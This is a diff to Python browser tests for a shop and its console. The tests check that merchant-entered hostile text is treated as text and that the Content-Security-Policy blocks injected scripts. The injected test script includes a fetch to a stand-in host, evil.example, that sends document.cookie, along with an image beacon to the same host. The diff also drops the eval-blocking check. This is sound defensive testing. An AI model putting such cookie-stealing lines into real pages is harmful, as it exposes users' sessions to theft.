@@ -57,20 +57,16 @@ async def test_a_script_in_a_merchants_text_is_text_in_shop_and_console(house, d
     token = (await (await desk.request.get(f"{house.console}/api/console/session")).json())["csrf_token"]  # fmt: skip
     head = {"X-CSRF-Token": token}
     body = {
-        "handle": "hostile-text", "title": {"zh-CN": HOSTILE[:100]}, "subtitle": {"zh-CN": HOSTILE[:100]}, "description": {"zh-CN": f"<p>茶</p>{HOSTILE}"},
-        "kind": "physical", "status": "on_sale", "category_ids": [], "image_ids": [], "options": [],
-        "skus": [{"code": "HOSTILE-1", "values": [], "price_minor": 100}],
+        "handle": "hostile-text", "title": {"zh-CN": HOSTILE[:100]}, "subtitle": {"zh-CN": HOSTILE[:100]}, "description_html": {"zh-CN": f"<p>茶</p>{HOSTILE}"},
+        "status": "on_sale", "skus": [{"code": "HOSTILE-1", "option_values": [], "price_minor": 100}],
     }  # fmt: skip
     made = await desk.request.post(f"{house.console}/api/console/products", data=body, headers=head)
-    assert made.status in (201, 422), await made.text()
-    if (
-        made.status == 422
-    ):  # the description alone is what the house refuses; the title stays as it was typed
-        body["description"] = {"zh-CN": "<p>茶</p>"}
+    if made.status in (400, 422):  # what the house refuses is only the description
+        body["description_html"] = {"zh-CN": "<p>茶</p>"}
         made = await desk.request.post(
             f"{house.console}/api/console/products", data=body, headers=head
         )
-        assert made.status == 201, await made.text()
+    assert made.status == 201, await made.text()
     product = await made.json()
     try:
         for path in (
@@ -116,13 +112,12 @@ async def test_a_script_that_got_into_a_page_does_not_run(house, browser, owner)
                     document.getElementById('bad').click()
                     fetch('https://evil.example/take?' + document.cookie).catch(() => undefined)
                     new Image().src = 'https://evil.example/take.gif'
-                    try { (0, eval)('window.__ran = 4') } catch { /* refused as well */ }
                 }"""
             )
-            await page.wait_for_function("() => (window.__refused || []).length >= 6")
+            await page.wait_for_function("() => (window.__refused || []).length >= 5")
             assert await page.evaluate("() => window.__ran") is None, where
             said = " ".join(await refused(page))
-            for rule in ("script-src-elem inline", "script-src-attr inline", "script-src-elem https://evil.example", "connect-src", "img-src", "script-src eval"):  # fmt: skip
+            for rule in ("script-src-elem inline", "script-src-attr inline", "script-src-elem https://evil.example", "connect-src", "img-src"):  # fmt: skip
                 assert rule in said, (rule, said)
 
 
